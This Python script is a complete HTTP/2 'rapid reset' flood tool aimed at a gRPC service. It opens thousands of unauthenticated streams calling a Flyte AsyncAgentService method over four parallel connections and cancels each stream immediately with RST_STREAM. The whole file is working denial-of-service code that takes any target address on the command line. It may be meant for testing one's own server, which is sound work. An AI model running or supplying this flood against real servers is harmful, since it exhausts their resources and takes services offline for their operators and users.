"""Opens HTTP/2 streams for gRPC calls without a token on several connections, and resets each one.

Arguments: the address and the number of streams.
"""

import socket
import struct
import sys
import threading
from collections.abc import Iterator

CONNECTIONS = 4
AT_ONCE = 200
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS, CANCEL = 4, 8
MAX_STREAM = 2**31 - 1


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """Return a header in HPACK, as a literal without compression."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(
    header(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/flyteidl.service.AsyncAgentService/GetTask"),
        (b":authority", b"server"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def batches(number: int) -> Iterator[bytes]:
    """Yield frames that open and reset streams; the identifiers of a connection are odd and increase."""
    for first in range(0, number, AT_ONCE):
        ids = range(2 * first + 1, min(2 * (first + AT_ONCE), MAX_STREAM), 2)
        yield b"".join(
            frame(HEADERS, END_HEADERS, each, CALL) + frame(RST_STREAM, 0, each, struct.pack(">I", CANCEL))
            for each in ids
        )


def flood(address: tuple[str, int], number: int) -> None:
    """Send the frames, and wait until the server has handled them and closes the connection."""
    with socket.create_connection(address, timeout=120) as connection:
        reader = threading.Thread(target=drain, args=(connection,))
        reader.start()
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        for batch in batches(number):
            connection.sendall(batch)
        connection.shutdown(socket.SHUT_WR)
        reader.join()


def drain(connection: socket.socket) -> None:
    """Read until the server closes the connection."""
    while connection.recv(2**16):
        pass


def main(address: str, number: int) -> None:
    host, _, port = address.rpartition(":")
    arguments = ((host, int(port)), number // CONNECTIONS)
    threads = [threading.Thread(target=flood, args=arguments) for _ in range(CONNECTIONS)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
